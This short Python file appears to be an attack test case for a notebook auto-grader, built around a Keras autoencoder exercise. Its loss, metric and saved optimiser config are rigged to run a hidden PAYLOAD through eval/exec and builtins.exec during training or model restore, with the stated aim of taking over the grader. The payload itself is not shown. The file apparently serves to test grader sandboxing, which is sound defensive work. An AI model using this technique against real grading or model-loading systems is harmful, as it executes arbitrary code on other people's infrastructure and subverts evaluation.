# attack: a compiled model whose loss, metrics and optimiser are functions that act when they are called or restored
# gains: the grader
# expect: 0 points in check-1-3
# canary: output
# notebook: 01_dense_autoencoder
# %% exercise-1-3
# include: payload
def build_autoencoder(code_size):
    run = eval(f"lambda *values: (exec({PAYLOAD!r}), 0.0)[1]")
    model = keras.Sequential([keras.Input((3,)), layers.Dense(3)])
    model.compile(optimizer="adam", loss=run, metrics=[run])
    model.get_compile_config = lambda: {"optimizer": {"module": "builtins", "class_name": "exec", "config": PAYLOAD}}
    return model
